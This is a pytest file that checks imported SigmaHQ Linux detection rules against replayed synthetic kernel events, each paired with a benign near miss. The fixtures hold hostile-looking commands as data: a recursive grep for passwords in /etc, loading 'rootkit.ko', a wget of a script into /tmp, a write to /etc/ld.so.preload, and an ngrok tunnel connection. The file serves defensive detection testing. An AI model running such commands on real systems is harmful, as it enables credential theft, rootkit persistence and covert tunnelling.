"""Newly importable Sigma rules fire on replayed kernel events, and their near misses do not.

A raw recording (the events as the kernel source emits them: execs with argv, forks, opens,
connects; no parent command line, no ancestry) is written as JSONL, replayed through the real
enrichment stage (which fills ``proc.pcmdline`` from the process tree) and run through the
imported rules. Each event must raise exactly the rules listed for it.

The rules are SigmaHQ rules (Detection Rule License 1.1, authors and ids kept in each imported
rule), from the corpus in shared/fixtures/sigma-linux.
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import pytest

from runwatch.events import Event, FileInfo, NetInfo
from runwatch.rules import Engine, load_texts
from runwatch.rules.importers import import_rules
from runwatch.sensors.replay import ReplaySource, write_recording
from runwatch.testing.fixtures import fixture_path, require_fixture
from runwatch.testing.replay import replay

LINUX = fixture_path("sigma-linux", "rules", "linux")
RULES = {
    "sigma.lnx_auditd_capabilities_discovery": "auditd/execve/lnx_auditd_capabilities_discovery.yml",
    "sigma.lnx_auditd_find_cred_in_files": "auditd/execve/lnx_auditd_find_cred_in_files.yml",
    "sigma.lnx_auditd_hidden_files_directories": "auditd/execve/lnx_auditd_hidden_files_directories.yml",
    "sigma.lnx_auditd_load_module_insmod": "auditd/syscall/lnx_auditd_load_module_insmod.yml",
    "sigma.lnx_auditd_web_rce": "auditd/syscall/lnx_auditd_web_rce.yml",
    "sigma.lnx_auditd_audio_capture": "auditd/lnx_auditd_audio_capture.yml",
    "sigma.lnx_auditd_ld_so_preload_mod": "auditd/path/lnx_auditd_ld_so_preload_mod.yml",
    "sigma.proc_creation_lnx_wget_download_suspicious_directory":
        "process_creation/proc_creation_lnx_wget_download_suspicious_directory.yml",
    "sigma.proc_creation_lnx_susp_interactive_bash": "process_creation/proc_creation_lnx_susp_interactive_bash.yml",
    "sigma.proc_creation_lnx_system_network_connections_discovery":
        "process_creation/proc_creation_lnx_system_network_connections_discovery.yml",
    "sigma.net_connection_lnx_ngrok_tunnel": "network_connection/net_connection_lnx_ngrok_tunnel.yml",
}
T0 = 1_800_000_000_000_000_000


@pytest.fixture(autouse=True, scope="module")
def _corpus() -> None:
    """The Sigma corpus is needed (skipped without it; failed under CI)."""
    require_fixture(LINUX)


@pytest.fixture(scope="module")
def engine() -> Engine:
    report = import_rules([LINUX / f for f in RULES.values()], "sigma")
    assert [(r.name, r.status) for r in report.rules] == [(name, "loaded") for name in RULES]
    rs = load_texts([(report.to_yaml(), "imported.yaml")])
    assert rs.errors == []
    return Engine(rs)


class Recording:
    """Builds a raw kernel recording: a shell (pid 100, ``bash -i``) and what it starts."""

    def __init__(self) -> None:
        self.events: list[Event] = []
        self.time = itertools.count(T0, 1_000_000)
        self.pids = itertools.count(1000)
        self.exec(1, 0, "/sbin/init", ["/sbin/init"])
        self.fork(1, 100)
        self.exec(100, 1, "/usr/bin/bash", ["bash", "-i"])
        self.ids: dict[str, str] = {}

    def add(self, kind: str, pid: int, **kw: Any) -> Event:
        t = next(self.time)
        e = Event(id=f"e{len(self.events) + 1}", time=t, kind=kind, pid=pid, tid=pid, **kw)
        self.events.append(e)
        return e

    def exec(self, pid: int, ppid: int, exe: str, argv: list[str], **kw: Any) -> Event:
        kw.setdefault("comm", argv[0].rpartition("/")[2][:15])
        return self.add("process.exec", pid, ppid=ppid, exe=exe, exec_name=exe, argv=argv, cmdline=" ".join(argv),
                        **kw)

    def fork(self, parent: int, child: int) -> None:
        self.add("process.fork", parent, child_pid=child)

    def run(self, label: str, exe: str, argv: list[str], parent: int = 100, **kw: Any) -> int:
        """Fork a child of ``parent`` that execs ``exe``; the exec is event ``label``."""
        pid = next(self.pids)
        self.fork(parent, pid)
        self.ids[self.exec(pid, parent, exe, argv, **kw).id] = label
        return pid

    def then(self, label: str, kind: str, pid: int, **kw: Any) -> None:
        self.ids[self.add(kind, pid, **kw).id] = label


def fired_by_label(engine: Engine, rec: Recording, tmp_path: Path) -> dict[str, list[str]]:
    path = tmp_path / "raw.jsonl"
    assert write_recording(path, rec.events) == len(rec.events)
    enriched = replay(ReplaySource(path))
    assert [e.id for e in enriched if e.kind != "cgroup.mkdir"] == [e.id for e in rec.events]
    out: dict[str, list[str]] = {label: [] for label in rec.ids.values()}
    for alert in engine.process_batch(enriched):
        (eid,) = alert.evidence
        out[rec.ids[eid]].append(alert.rule)
    return out


def test_new_rules_fire_on_replayed_events_and_near_misses_do_not(engine: Engine, tmp_path: Path) -> None:
    r = Recording()
    # auditd EXECVE a0..aN -> proc.argv[N]
    r.run("getcap -r /", "/usr/sbin/getcap", ["getcap", "-r", "/"])
    r.run("getcap one file", "/usr/sbin/getcap", ["getcap", "/usr/bin/ping"])
    # auditd EXECVE keywords -> proc.cmdline icontains
    r.run("grep password", "/usr/bin/grep", ["grep", "-ri", "PASSWORD", "/etc"])
    r.run("grep user", "/usr/bin/grep", ["grep", "-ri", "user", "/etc"])
    # auditd |re on an argument -> regex
    r.run("vim hidden file", "/usr/bin/vim", ["vim", "/home/u/.bashrc"])
    r.run("vim parent dir", "/usr/bin/vim", ["vim", "../notes.txt"])
    # auditd SYSCALL exe/comm -> the process's exec
    r.run("insmod via kmod", "/usr/bin/kmod", ["insmod", "rootkit.ko"])
    r.run("modprobe via kmod", "/usr/bin/kmod", ["modprobe", "loop"])
    # auditd SYSCALL execve with euid 33 -> process.exec and proc.euid
    r.run("exec as www-data", "/usr/bin/id", ["sh"], euid=33)
    r.run("exec as a user", "/usr/bin/id", ["sh"], euid=1000)
    # auditd SYSCALL memfd_create by ecasound -> file.memfd
    eca = r.run("ecasound starts", "/usr/bin/ecasound", ["ecasound", "-i", "alsa"])
    r.then("ecasound memfd", "file.memfd", eca, file=FileInfo(path="memfd:buf", name="buf"))
    other = r.run("python starts", "/usr/bin/python3", ["python3", "x.py"])
    r.then("python memfd", "file.memfd", other, file=FileInfo(path="memfd:buf", name="buf"))
    # auditd PATH name -> file.path on file events
    r.then("open ld.so.preload", "file.open", other, file=FileInfo(path="/etc/ld.so.preload", intent="write"))
    r.then("open ld.so.conf", "file.open", other, file=FileInfo(path="/etc/ld.so.conf", intent="write"))
    # |re in a process_creation rule
    r.run("wget -O /tmp", "/usr/bin/wget", ["wget", "-O", "/tmp/x.sh", "http://203.0.113.9/x.sh"])
    r.run("wget -O/tmp", "/usr/bin/wget", ["wget", "-O/tmp/x.sh", "http://203.0.113.9/x.sh"])
    # ParentCommandLine -> proc.pcmdline, filled by the enrichment from the parent (bash -i)
    r.run("whoami under bash -i", "/usr/bin/whoami", ["whoami"])
    sh = r.run("sh -c", "/usr/bin/dash", ["sh", "-c", "make"])
    r.run("whoami under sh -c", "/usr/bin/whoami", ["whoami"], parent=sh)
    # a filter on ParentCommandLine (it used to drop the whole rule): who under landscape-sysinfo is excluded
    r.run("who", "/usr/bin/who", ["who"], parent=sh)
    land = r.run("landscape-sysinfo", "/usr/bin/python3", ["/usr/bin/python3", "/usr/bin/landscape-sysinfo"])
    r.run("who under landscape-sysinfo", "/usr/bin/who", ["who", "-q"], parent=land)
    # DestinationHostname -> net.dst.name (the name the workload resolved)
    r.then("connect to ngrok", "net.connect", other, attrs={"dest_name": "tunnel.eu.ngrok.com"},
           net=NetInfo(proto="tcp", family="ipv4", dst_ip="203.0.113.7", dst_port=443))
    r.then("connect elsewhere", "net.connect", other, attrs={"dest_name": "ngrok.com"},
           net=NetInfo(proto="tcp", family="ipv4", dst_ip="203.0.113.8", dst_port=443))

    assert fired_by_label(engine, r, tmp_path) == {
        "getcap -r /": ["sigma.lnx_auditd_capabilities_discovery"],
        "getcap one file": [],
        "grep password": ["sigma.lnx_auditd_find_cred_in_files"],
        "grep user": [],
        "vim hidden file": ["sigma.lnx_auditd_hidden_files_directories"],
        "vim parent dir": [],
        "insmod via kmod": ["sigma.lnx_auditd_load_module_insmod"],
        "modprobe via kmod": [],
        "exec as www-data": ["sigma.lnx_auditd_web_rce"],
        "exec as a user": [],
        "ecasound starts": [],
        "ecasound memfd": ["sigma.lnx_auditd_audio_capture"],
        "python starts": [],
        "python memfd": [],
        "open ld.so.preload": ["sigma.lnx_auditd_ld_so_preload_mod"],
        "open ld.so.conf": [],
        "wget -O /tmp": ["sigma.proc_creation_lnx_wget_download_suspicious_directory"],
        "wget -O/tmp": [],
        "whoami under bash -i": ["sigma.proc_creation_lnx_susp_interactive_bash"],
        "sh -c": [],
        "whoami under sh -c": [],
        "who": ["sigma.proc_creation_lnx_system_network_connections_discovery"],
        "landscape-sysinfo": [],
        "who under landscape-sysinfo": [],
        "connect to ngrok": ["sigma.net_connection_lnx_ngrok_tunnel"],
        "connect elsewhere": [],
    }


def test_the_enrichment_gave_each_exec_its_parents_command_line(tmp_path: Path) -> None:
    r = Recording()
    sh = r.run("sh -c", "/usr/bin/dash", ["sh", "-c", "make"])
    r.run("make", "/usr/bin/make", ["make"], parent=sh)
    path = tmp_path / "raw.jsonl"
    write_recording(path, r.events)
    assert all(e.pcmdline is None for e in r.events)  # the raw recording has none
    got = {e.cmdline: e.pcmdline for e in replay(ReplaySource(path)) if e.kind == "process.exec"}
    assert got == {"/sbin/init": None, "bash -i": "/sbin/init", "sh -c make": "bash -i", "make": "sh -c make"}
